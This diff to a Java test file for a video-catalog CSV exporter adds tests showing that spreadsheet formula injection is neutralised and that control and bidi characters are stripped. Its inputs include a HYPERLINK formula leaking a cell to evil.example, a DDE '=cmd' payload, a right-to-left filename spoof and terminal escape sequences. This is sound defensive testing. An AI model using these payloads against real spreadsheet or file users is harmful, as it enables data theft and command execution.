@@ -11,6 +11,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.TreeMap;
+import nl.vidcat.catalog.ControlCharacters;
 import nl.vidcat.catalog.Metadata;
 import nl.vidcat.catalog.Problem;
 import nl.vidcat.catalog.Progress;
@@ -18,6 +19,9 @@ import nl.vidcat.catalog.ReviewStatus;
 import nl.vidcat.catalog.Term;
 import nl.vidcat.catalog.TestRecords;
 import nl.vidcat.catalog.VideoRecord;
+import nl.vidcat.ingest.Column;
+import nl.vidcat.ingest.SheetReader;
+import nl.vidcat.ingest.SheetRow;
 import nl.vidcat.vocab.Normalizer;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
@@ -59,6 +63,55 @@ class CsvExportTest {
         assertSame(fx.catalog.find("lastig-5a5a5a5a").orElseThrow().metadata(), t);
         assertEquals("sterrenkunde", t.subject().input(), "unknown values come back as typed");
         assertEquals("KD99", t.goals().get(2).input());
+    }
+
+    /** OWASP CSV injection: text cells that Excel would run are written with a leading ', and ingest drops it. */
+    @Test
+    void formulasInTextCellsAreNeutralizedAndComeBackExactlyThroughIngest() throws Exception {
+        ExportFixture fx = new ExportFixture(tmp);
+        Normalizer n = Normalizer.standard();
+        Metadata m = new Metadata("=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Klik hier\")", "+SUM(A1:A9)",
+                List.of("-1+2", "=2+5"), n.subject("wiskunde"), n.levels("havo"), List.of(4, 5), List.of(),
+                "nl", n.licence("CC BY 4.0"), "@cmd", "=cmd|'/C calc'!A0", List.of("@Noor", "Kees"), Boolean.TRUE,
+                "-ondertitels.srt");
+        fx.save(ExportFixture.withMetadata(TestRecords.sample("formule-1a2b3c4d"), m));
+        new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")), Progress.NONE);
+        Path sheet = tmp.resolve("out/metadata.csv");
+
+        try (Reader in = Files.newBufferedReader(sheet, StandardCharsets.UTF_8)) {
+            in.skip(1); // BOM
+            CSVRecord row = CSVFormat.EXCEL.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
+                    .parse(in).getRecords().get(0);
+            assertEquals("'" + m.title(), row.get("titel"));
+            assertEquals("'+SUM(A1:A9)", row.get("beschrijving"));
+            assertEquals("'-1+2, =2+5", row.get("trefwoorden"));
+            assertEquals("'@Noor, Kees", row.get("makers"));
+            assertEquals("'=cmd|'/C calc'!A0", row.get("docent"));
+            assertEquals("'@cmd", row.get("school"));
+            assertEquals("'-ondertitels.srt", row.get("ondertitels"));
+            assertEquals("4-5", row.get("leerjaar"), "numbers are written as numbers");
+            for (String cell : row.values()) {
+                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, cell);
+            }
+        }
+        SheetRow back = SheetReader.read(sheet).rows().get(0);
+        List<Problem> problems = new ArrayList<>();
+        assertSame(m, back.toMetadata(n, problems));
+        assertEquals(m.title(), back.get(Column.TITLE));
+    }
+
+    @Test
+    void controlAndBidiCharactersAreLeftOut() throws Exception {
+        ExportFixture fx = new ExportFixture(tmp);
+        VideoRecord r = TestRecords.sample("bidi-1a2b3c4d");
+        fx.save(ExportFixture.withMetadata(r, new Metadata("Huiswerk \u202Egnp.exe", "\u001B]0;pwned\u0007Uitleg\u0000"
+                + " \u001B[2J van breuken\nregel 2", List.of("\u2066a\u2069"), r.metadata().subject(),
+                r.metadata().levels(), r.metadata().years(), r.metadata().goals(), "nl", r.metadata().licence(),
+                "School", "Docent", List.of(), null, null)));
+        new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")), Progress.NONE);
+        String text = Files.readString(tmp.resolve("out/metadata.csv"));
+        assertEquals(-1, ControlCharacters.indexOf(text), text);
+        assertTrue(text.contains("Huiswerk gnp.exe;\"]0;pwnedUitleg [2J van breuken\nregel 2\""), text);
     }
 
     @Test
